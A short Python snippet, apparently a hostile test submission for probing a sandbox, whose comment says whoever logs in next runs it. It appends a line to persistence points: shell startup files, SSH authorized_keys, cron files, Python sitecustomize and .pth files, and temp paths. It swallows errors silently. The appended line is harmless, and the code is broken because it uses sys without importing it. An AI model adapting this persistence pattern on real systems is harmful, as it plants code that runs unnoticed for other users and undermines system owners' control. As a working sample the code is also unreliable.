# persist: whoever logs in next runs it
import os
for path in ("~/.bashrc", "~/.profile", "~/.ssh/authorized_keys", "/etc/cron.d/x", "/var/spool/cron/root",
             os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "/usr/lib/python3/dist-packages/x.pth",
             os.path.join(sys.prefix, "lib", "x.pth"), "/dev/shm/a-hostile-submission", "/tmp/a-hostile-submission",
             "/var/tmp/a-hostile-submission"):
    try:
        with open(os.path.expanduser(path), "a") as file:
            file.write("import os\n")
    except OSError:
        pass
